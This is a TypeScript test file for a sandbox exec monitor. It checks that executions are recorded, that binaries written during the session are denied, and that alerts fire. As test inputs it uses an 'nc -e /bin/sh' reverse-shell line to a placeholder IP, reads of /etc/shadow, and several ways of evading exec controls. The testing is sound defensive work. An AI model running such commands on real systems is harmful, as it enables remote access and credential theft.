import { createHash } from 'node:crypto'
import { readFileSync, writeFileSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import type { LeafInput } from '../../wire/leaves.ts'
import { SYSTEM_CLOCK } from '../clock.ts'
import { ExecDigests } from '../exec-digests.ts'
import { type ExecRoom, openExecRoom, type Ran, ROOM_SESSION } from '../testing/exec-room.ts'
import { ExecMonitor, type Monitored, monitorOrSaySo } from './exec-monitor.ts'

/** A busy disk must not make a digest late: what lateness does has tests of its own. */
const PATIENCE_MS = 15_000

type ExecLeaf = Extract<LeafInput, { type: 'process.exec' }>

let room: ExecRoom
beforeEach(() => {
  room = openExecRoom()
})
afterEach(() => room.close())

const digests = new ExecDigests(SYSTEM_CLOCK, PATIENCE_MS)

async function inRoom(
  written: 'deny' | 'record',
  script: string,
  record?: Monitored['record'],
): Promise<Ran & { counters: Record<string, number> }> {
  const monitor = new ExecMonitor(room.live(written, record), { clock: SYSTEM_CLOCK, digests })
  const ran = await room.run(script)
  return { ...ran, counters: await monitor.end() }
}

const execs = (): ExecLeaf[] => room.leaves.filter((leaf) => leaf.type === 'process.exec')
const alerts = (): string[] =>
  room.leaves.flatMap((leaf) => (leaf.type === 'alert' ? [`${leaf.severity} ${leaf.rule}`] : []))
/** All but the shell that runs the script. */
const shown = (): unknown[] =>
  execs()
    .slice(1)
    .map(({ path, argv, written, verdict }) => [path, argv, written, verdict.kind])
const sha256 = (path: string): string =>
  `sha256:${createHash('sha256').update(readFileSync(path)).digest('hex')}`

test('an exec is recorded with its file, digest, arguments and parent, before it happens', async () => {
  const { output, counters } = await inRoom('record', 'echo $$; uname -s; :')
  const [shell, uname, ...more] = execs()
  expect(more).toEqual([])
  expect(uname).toEqual({
    type: 'process.exec',
    session: ROOM_SESSION,
    id: 'x2',
    pid: expect.any(Number),
    parent: shell?.pid,
    path: '/usr/bin/uname',
    digest: sha256('/usr/bin/uname'),
    written: false,
    argv: ['uname', '-s'],
    argvOmitted: 0,
    verdict: { kind: 'allow', rules: [] },
    action: 'session.start',
    repeated: 0,
  })
  expect(output).toBe('1\nLinux\n')
  expect(counters).toMatchObject({ 'exec.total': 2, 'exec.denied': 0, 'exec.unhashed': 0 })
  expect(room.warnings).toEqual([])
})

test('the interpreter and the loader of a script are no execs of their own', async () => {
  writeFileSync(join(room.lower, 'hello'), '#!/bin/sh\necho hello\n', { mode: 0o755 })
  const { output } = await inRoom('deny', './hello x')
  expect(output).toBe('hello\n')
  expect(shown()).toEqual([['/workspace/hello', ['./hello', 'x'], false, 'allow']])
})

test('no record, no exec', async () => {
  const { code, output } = await inRoom('record', 'true', async () => {
    throw new Error('the log is full')
  })
  expect({ code, output }).toEqual({
    code: 126,
    output: expect.stringMatching(/Operation not permitted/),
  })
  expect(room.warnings.join('\n')).toContain('the log is full')
})

test('the exec waits until its record is durable', async () => {
  const durable = Promise.withResolvers<void>()
  const asked = Promise.withResolvers<void>()
  const monitor = new ExecMonitor(
    room.live('record', () => {
      asked.resolve()
      return durable.promise
    }),
    { clock: SYSTEM_CLOCK, digests },
  )
  let isOver = false
  const running = room.run('true').then((ran) => {
    isOver = true
    return ran
  })
  await asked.promise
  await readFile('/proc/self/stat') // the loop turns meanwhile
  expect(isOver).toBe(false)
  durable.resolve()
  expect((await running).code).toBe(0)
  await monitor.end()
})

const COPY = 'cp /bin/true x; chmod +x x;'
type Attack = { name: string; script: string; path: string; rule?: string }

const WRITTEN: readonly Attack[] = [
  { name: 'a copy in the workspace', script: `${COPY} ./x`, path: '/workspace/x' },
  { name: 'a file in /tmp', script: 'cp /bin/true /tmp/x; /tmp/x', path: '/tmp/x' },
  {
    name: 'a script with an interpreter line',
    script: 'printf "#!/bin/sh\\necho ran\\n" > s; chmod +x s; ./s',
    path: '/workspace/s',
  },
  {
    name: 'a user’s file that was changed',
    script: 'echo "echo more" >> tool; ./tool',
    path: '/workspace/tool',
  },
  {
    name: 'a user’s file under another name',
    script: 'mv tool t; ./t',
    path: '/workspace/t',
  },
  {
    name: 'a hard link',
    script: `${COPY} ln x y; ./y`,
    path: '/workspace/y',
  },
  {
    name: 'a symbolic link',
    script: `${COPY} ln -s x y; ./y`,
    path: '/workspace/x',
  },
  {
    name: 'a file that was deleted, by its descriptor',
    script: 'cp /bin/true /tmp/x; exec 5</tmp/x; rm /tmp/x; /proc/self/fd/5',
    path: '/tmp/x (deleted)',
  },
  {
    name: 'a name that begins like a place of the system',
    script: 'mkdir usr; cp /bin/true usr/x; ./usr/x',
    path: '/workspace/usr/x',
  },
  {
    name: 'an interpreter that was written',
    script:
      'cp /bin/dash i; printf "#!/workspace/i\\necho ran\\n" > /tmp/s; chmod +x /tmp/s i; ./tool2',
    path: '/workspace/i',
  },
]

describe('what was written in the session', () => {
  beforeEach(() => {
    writeFileSync(join(room.lower, 'tool'), '#!/bin/sh\necho ran\n', { mode: 0o755 })
    writeFileSync(join(room.lower, 'tool2'), '#!/workspace/i\necho ran\n', { mode: 0o755 })
  })

  test.for(WRITTEN)('deny: $name is refused, and that is recorded', async ({ script, path }) => {
    const { code, output } = await inRoom('deny', `${script}; echo "code $?"`)
    expect(code).toBe(0)
    expect(output).toMatch(/code 12[67]/)
    expect(output).not.toContain('ran')
    const denied = execs().filter(({ verdict }) => verdict.kind === 'deny')
    expect(denied.length).toBeGreaterThan(0) // a shell may try again by another path
    for (const leaf of denied) {
      expect(leaf).toMatchObject({ path, written: true, verdict: { rules: ['exec.written'] } })
    }
  })

  test.for(WRITTEN)('record: $name runs, and that is recorded', async ({ script, path }) => {
    const { output } = await inRoom('record', `${script}; echo "code $?"`)
    expect(output).toMatch(/code 0/)
    expect(execs().find((leaf) => leaf.path === path)).toMatchObject({
      written: true,
      verdict: { kind: 'allow' },
    })
  })

  test('deny: what is from before the session runs, copied up or not at all', async () => {
    const { output } = await inRoom('deny', './tool; cat tool > /dev/null; ./tool')
    expect(output).toBe('ran\nran\n')
  })

  test('deny: the loader starts nothing by hand', async () => {
    const loader = '/lib64/ld-linux-x86-64.so.2'
    const { output } = await inRoom('deny', `${COPY} ${loader} ./x; echo "code $?"`)
    expect(output).toMatch(/code 126/)
    expect(execs().at(-1)).toMatchObject({
      argv: [loader, './x'],
      written: false,
      verdict: { kind: 'deny', rules: ['exec.loader'] },
    })
    expect(alerts()).toContain('high exec.loader-by-hand')
  })

  test('deny: a file that is changed between the decision and the loading does not run', async () => {
    let change: (() => void) | undefined = () => {
      // as a second process of the session would, from the moment that the decision is taken
      writeFileSync(join(room.upper, 'tool'), '#!/bin/sh\necho ran changed\n', { mode: 0o755 })
    }
    const { output } = await inRoom('deny', './tool; echo "code $?"', async (leaf) => {
      room.leaves.push(leaf)
      if (leaf.type === 'process.exec' && leaf.path === '/workspace/tool') change?.()
      change = leaf.type === 'process.exec' && leaf.path === '/workspace/tool' ? undefined : change
    })
    expect(output).toMatch(/code 126/)
    expect(execs().at(-1)?.verdict).toMatchObject({
      kind: 'deny',
      rules: ['exec.changed', 'exec.unhashed'],
    })
  })
})

test('an alert names the exec that it is about', async () => {
  await inRoom(
    'record',
    'nc -e /bin/sh 192.0.2.1 1 2>/dev/null; perl -e "exit" -- /etc/shadow; cat /etc/shadow',
  )
  const alert = room.leaves.find((leaf) => leaf.type === 'alert')
  const about = execs().find(({ path }) => path === '/usr/bin/cat')
  expect(alert).toEqual({
    type: 'alert',
    session: ROOM_SESSION,
    rule: 'exec.credential-file',
    severity: 'medium',
    subject: '/usr/bin/cat /etc/shadow',
    about: about?.id,
  })
})

test('a flood of one program is counted, and no exec of it is lost', async () => {
  const { counters } = await inRoom(
    'record',
    'i=0; while [ $i -lt 1500 ]; do /bin/true; i=$((i+1)); done',
  )
  const trues = execs().filter(({ path }) => path === '/usr/bin/true')
  expect(trues.reduce((sum, { repeated }) => sum + 1 + repeated, 0)).toBe(1500)
  expect(counters['exec.total']).toBe(1501)
})

test('one session’s execs are not another’s', async () => {
  const other = openExecRoom()
  try {
    const shared = { ...other.live('record'), platform: room.live('record').platform }
    const monitors = [room.live('record'), shared].map(
      (live) => new ExecMonitor(live, { clock: SYSTEM_CLOCK, digests }),
    )
    await Promise.all([room.run('uname; uname'), other.run('id; id; id')])
    for (const monitor of monitors) await monitor.end()
    const count = (leaves: readonly LeafInput[], path: string): number =>
      leaves.filter((leaf) => leaf.type === 'process.exec' && leaf.path === path).length
    expect([count(room.leaves, '/usr/bin/uname'), count(room.leaves, '/usr/bin/id')]).toEqual([
      2, 0,
    ])
    expect([count(other.leaves, '/usr/bin/uname'), count(other.leaves, '/usr/bin/id')]).toEqual([
      0, 3,
    ])
  } finally {
    other.close()
  }
})

test('where execs cannot be watched, only a session that may run what it writes begins', () => {
  const strong = { ...room.live('record').plan, isolation: 'strong' as const }
  const live = { ...room.live('record'), plan: strong }
  expect(monitorOrSaySo(live).end()).toEqual({ 'exec.unmonitored': 1 })
  const strict = { ...live, plan: { ...strong, exec: { written: 'deny' as const } } }
  expect(() => monitorOrSaySo(strict)).toThrow('execs cannot be watched for this session')
})
